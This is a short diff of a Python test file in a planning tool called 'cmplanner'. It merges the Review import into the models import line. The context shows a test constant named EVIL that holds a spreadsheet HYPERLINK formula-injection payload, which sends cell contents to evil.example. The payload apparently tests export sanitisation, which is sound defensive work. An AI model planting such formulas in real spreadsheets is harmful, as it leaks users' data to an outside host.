@@ -16,8 +16,7 @@ from openpyxl import load_workbook
 
 from cmplanner import checklists, demo, exports, reviews
 from cmplanner.exports import DataError
-from cmplanner.models import Platform, Strategy, WeekMetrics
-from cmplanner.reviews import Review
+from cmplanner.models import Platform, Review, Strategy, WeekMetrics
 from cmplanner.store import REVIEWS, TICKS, Store, StoreError, backup
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
